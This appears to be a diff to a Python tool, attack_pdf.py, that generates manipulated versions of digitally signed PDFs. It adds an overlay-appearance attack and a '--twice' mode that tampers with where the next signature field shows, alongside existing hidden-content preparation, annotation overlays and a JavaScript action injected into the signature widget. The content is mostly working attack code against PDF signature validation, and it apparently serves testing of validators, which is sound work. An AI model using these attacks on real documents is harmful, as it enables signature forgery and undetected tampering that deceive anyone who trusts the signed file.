@@ -5,6 +5,7 @@ packed only where nothing here touches them.
 
 usage: attack_pdf.py SIGNED.pdf FOLDER      writes FOLDER/<class>.pdf and prints the names
        attack_pdf.py --prepare PLAIN.pdf OUT.pdf    hides another page content in it before somebody signs it
+       attack_pdf.py --twice SIGNED.pdf OUT.pdf     names the field of the next signature on the last page, whoever signs it
 """
 import os
 import re
@@ -95,9 +96,13 @@ def attacks(data):
     yield 'eaa-note', p.update({new: b'<</Type /Annot /Subtype /FreeText /Rect [0 0 400 400] /Contents (Evil)>>',
         page: re.sub(rb'/Annots \[', b'/Annots [%d 0 R ' % new, leaf) if b'/Annots [' in leaf else leaf[:-2] + b'/Annots [%d 0 R]>>' % new})
     yield 'eaa-note-behind', p.update({new: b'<</Type /Annot /Subtype /Stamp /Rect [0 0 400 400]>>', page: re.sub(rb'(/Annots \[[^]]*)\]', rb'\1 %d 0 R]' % new, leaf)})
+    look = b'<</Type /XObject /Subtype /Form /BBox [0 0 400 200] /Resources <<>> /Length %d>>stream\n' % len(TEXT) + TEXT + b'\nendstream'
+    carried = re.sub(rb'/AP\s*<<.*?>>', b'', re.sub(rb'/Rect \[[^]]*\]', b'/Rect [72 600 472 800]', field)).replace(b'/T ', b'/T (x) /TU ')
+    yield 'eaa-carried', p.update({new: carried[:-2] + b'/AP <</N %d 0 R>> >>' % (new + 1), new + 1: look,
+        page: re.sub(rb'(/Annots \[[^]]*)\]', rb'\1 %d 0 R]' % new, leaf)})
     yield 'ssa-empty-field', p.update({new: b'<</Type /Annot /Subtype /Widget /FT /Sig /T (late) /Rect [0 0 595 842] /P %d 0 R>>' % page,
         page: re.sub(rb'(/Annots \[[^]]*)\]', rb'\1 %d 0 R]' % new, leaf)})
-    yield 'ssa-moved-widget', p.update({widget: field.replace(b'/Rect [0 0 0 0]', b'/Rect [0 0 595 842]')})
+    yield 'ssa-moved-widget', p.update({widget: re.sub(rb'/Rect \[[^]]*\]', b'/Rect [0 0 300 400]', field)})
     yield 'ssa-action', p.update({widget: field[:-2] + b'/A <</S /JavaScript /JS (app.alert)>> >>'})
     yield 'form-text-field', p.update({new: b'<</FT /Tx /T (sum) /V (1)>>', p.root: re.sub(rb'/AcroForm \d+ 0 R', b'/AcroForm <</Fields [%d 0 R %d 0 R] /SigFlags 3>>' % (widget, new), catalog)})
     yield 'form-appearances', p.update({p.root: re.sub(rb'/AcroForm \d+ 0 R', b'/AcroForm <</Fields [%d 0 R] /SigFlags 3 /NeedAppearances true>>' % widget, catalog)})
@@ -124,9 +129,20 @@ def prepare(data):
     return p.update({p.size: b'null'}, head=b'%d 0 obj\n' % content + EVIL + b'\nendobj\n')
 
 
+def twice(data):
+    """Whoever signs OUT gets the field of the number after next; it is shown on the last page too, beside its own."""
+    p = Pdf(data)
+    page = max(int(n) for n in re.findall(rb'(\d+) 0 obj\s*<</Type ?/Page\W', data))
+    leaf, _ = p.object(page)
+    return p.update({page: leaf[:-2] + b'/Annots [%d 0 R]>>' % (p.size + 1)})
+
+
 def main():
     if sys.argv[1] == '--prepare':
         open(sys.argv[3], 'wb').write(prepare(open(sys.argv[2], 'rb').read()))
+        return
+    if sys.argv[1] == '--twice':
+        open(sys.argv[3], 'wb').write(twice(open(sys.argv[2], 'rb').read()))
         return
     data = open(sys.argv[1], 'rb').read()
     os.makedirs(sys.argv[2], exist_ok=True)
